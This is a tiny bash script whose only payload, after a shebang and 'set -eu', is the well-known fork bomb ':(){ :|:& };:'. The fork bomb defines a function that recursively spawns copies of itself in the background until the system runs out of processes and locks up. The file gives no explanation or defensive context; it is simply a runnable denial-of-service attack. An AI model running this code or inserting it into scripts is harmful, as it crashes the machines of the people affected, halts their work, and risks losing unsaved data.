#!/bin/bash
set -eu
:(){ :|:& };:
